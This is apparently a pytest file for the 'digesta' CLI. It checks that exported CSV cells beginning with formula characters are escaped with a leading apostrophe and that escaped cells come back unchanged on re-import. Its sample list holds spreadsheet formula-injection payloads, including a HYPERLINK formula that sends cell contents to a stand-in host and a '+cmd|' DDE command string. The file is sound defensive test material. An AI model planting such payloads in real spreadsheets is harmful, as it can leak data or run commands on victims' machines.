"""What ``digesta export`` writes for spreadsheets, and how much ``digesta import`` reads."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from seeds import case, cases, task, tasks
from typer.testing import CliRunner

from digesta.cli import app

FORMULAS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+cmd|x!A1", "-1+1", "@SUM(1)", "\t=1", " =1",
    "＝1+1",
)  # fmt: skip


def digesta(*arguments: object) -> None:
    done = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert done.exit_code == 0, done.stderr


def table(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def imported(root: Path, form: str, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        (root / name).write_bytes(data)
    digesta("import", form, *(root / name for name in files), "-o", root / "draft")
    return root / "draft"


def test_no_cell_of_an_exported_table_is_a_formula(tmp_path: Path) -> None:
    answers = [
        {"序号": str(n), "处罚类型": text, "违规领域": "", "法律依据": "", "处罚等级": "B"}
        for n, text in enumerate(FORMULAS)
    ]
    rows = [case(序号=str(n), 违规事实=text) for n, text in enumerate(FORMULAS)]
    draft = imported(tmp_path, "finlaw", cases(*rows, answers=answers))

    digesta("export", "finlaw", draft, "-o", tmp_path / "out")

    written = table(tmp_path / "out" / "predictions.csv")
    assert [row["处罚类型"] for row in written] == [f"'{text}" for text in FORMULAS]
    facts = table(tmp_path / "out" / "Finlaw_dataset.csv")
    assert [row["违规事实"] for row in facts] == [f"'{text}" for text in FORMULAS]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_was_guarded_is_imported_as_it_was(text: str, tmp_path: Path) -> None:
    draft = imported(tmp_path, "frenchlaw", tasks(task(Prompt=f"'{text}", Title=f"'{text}")))
    digesta("export", "frenchlaw", draft, "-o", tmp_path / "out")

    assert table(tmp_path / "out" / "tasks.csv")[0]["Prompt"] == f"'{text}"
    digesta("import", "frenchlaw", tmp_path / "out", "-o", tmp_path / "again")
    again = (tmp_path / "again" / "questions.jsonl").read_bytes()
    assert again == (draft / "questions.jsonl").read_bytes()
